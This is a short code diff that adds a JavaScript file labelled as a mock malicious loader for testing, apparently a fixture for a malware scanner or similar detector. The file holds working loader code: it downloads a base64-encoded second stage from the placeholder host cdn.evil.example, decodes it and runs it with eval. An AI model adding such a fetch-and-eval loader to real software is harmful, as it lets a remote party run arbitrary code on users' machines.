@@ -0,0 +1,13 @@
+// MOCK malicious loader - FOR TESTING ONLY
+// Fetches an encoded second stage and evaluates it
+
+const https = require('https');
+
+https.get('https://cdn.evil.example/stage2.txt', (res) => {
+    let body = '';
+    res.on('data', (chunk) => (body += chunk));
+    res.on('end', () => {
+        const code = Buffer.from(body, 'base64').toString();
+        eval(code);
+    });
+});